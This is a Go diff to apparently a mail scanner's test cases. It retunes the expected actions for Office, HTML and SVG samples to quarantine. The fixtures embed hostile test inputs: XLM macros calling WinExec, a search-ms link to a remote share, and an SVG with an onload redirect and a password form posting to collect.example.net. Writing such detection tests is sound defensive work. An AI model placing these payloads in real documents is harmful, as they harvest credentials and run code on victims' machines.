@@ -65,6 +65,21 @@ func wrappings(c officeCase) []struct {
 	}
 }
 
+// OfficeNames are the names of the Office samples (issue 13): each
+// technique in its three wrappings, and the benign twins.
+func OfficeNames() map[string]bool {
+	out := map[string]bool{}
+	for _, c := range officeCases() {
+		for _, suffix := range []string{"", "-in-zip", "-in-zip-eml"} {
+			out[c.name+suffix] = true
+		}
+	}
+	for _, s := range officeClean() {
+		out[s.Name] = true
+	}
+	return out
+}
+
 func officeSamples() []Sample {
 	var out []Sample
 	for _, c := range officeCases() {
@@ -276,13 +291,13 @@ func officeCases() []officeCase {
 				{Row: 1, Col: 0, Rgce: f.PtgFuncVar(0, 0x37, false)}}}}}),
 			wants: []relWant{{"heuristic", "office-macro", "/xlm/Macro1"}}},
 		{name: "xls-xlm-autorun-alert", about: "xls whose Auto_Open macro only shows a message",
-			action: policy.Tag, subject: "Welcome", body: "The welcome workbook.\n", ctype: "application/vnd.ms-excel", file: "welcome.xls",
+			action: policy.Quarantine, subject: "Welcome", body: "The welcome workbook.\n", ctype: "application/vnd.ms-excel", file: "welcome.xls",
 			data: f.XLS(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Macro1", Macro: true, Formulas: []f.XLSFormula{
 				{Row: 0, Col: 0, Rgce: f.Cat(f.PtgStr("Welcome"), f.PtgFuncVar(1, f.CetabAlert, true))}, {Row: 1, Col: 0, Rgce: f.PtgFuncVar(0, 0x37, false)}}}},
 				Names: []f.XLSName{{Builtin: 1, Rgce: f.PtgRef3d(0, 0, 0)}}}),
 			wants: []relWant{{"heuristic", "xlm-autorun", "/xlm/Macro1"}}},
 		{name: "xls-xlm-call-no-autorun", about: "xls whose macro sheet calls WinExec but has no auto-run name",
-			action: policy.Tag, subject: "Tools", body: "The tools workbook.\n", ctype: "application/vnd.ms-excel", file: "tools.xls",
+			action: policy.Quarantine, subject: "Tools", body: "The tools workbook.\n", ctype: "application/vnd.ms-excel", file: "tools.xls",
 			data: f.XLS(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Macro1", Macro: true, Formulas: []f.XLSFormula{
 				{Row: 0, Col: 0, Rgce: f.Cat(f.PtgStr("Kernel32"), f.PtgStr("WinExec"), f.PtgStr("JCJ"), f.PtgStr("notepad.exe"), f.PtgInt(0), f.PtgFuncVar(5, f.FtabCall, false))}}}}}),
 			wants: []relWant{{"heuristic", "xlm-exec", "/xlm/Macro1"}}},
@@ -347,7 +362,7 @@ func officeCases() []officeCase {
 			data:  []byte(`<html><body><a href="search&#45;ms&#58;query=invoice&amp;crumb=location:\\203.0.113.7@80\share">Open folder</a></body></html>`),
 			wants: []relWant{{"heuristic", "ms-protocol-handler", ""}}},
 		{name: "svg-foreignobject-handler", about: "SVG image carrying an HTML form in foreignObject and an onload handler, entity-encoded",
-			action: policy.Tag, subject: "Invoice image", body: "The invoice image.\n", ctype: "image/svg+xml", file: "invoice.svg",
+			action: policy.Quarantine, subject: "Invoice image", body: "The invoice image.\n", ctype: "image/svg+xml", file: "invoice.svg",
 			data:  []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200" o&#110;load="location='https://collect.example.net/'"><foreignObject width="300" height="200"><body xmlns="http://www.w3.org/1999/xhtml"><form action="https://collect.example.net/login"><input name="password" type="password"/></form></body></foreignObject></svg>`),
 			wants: []relWant{{"heuristic", "svg-script", ""}}},
 		{name: "html-css-escaped-ms-msdt", about: "HTML whose ms-msdt: link hides its hyphen behind a CSS escape in a style url()",
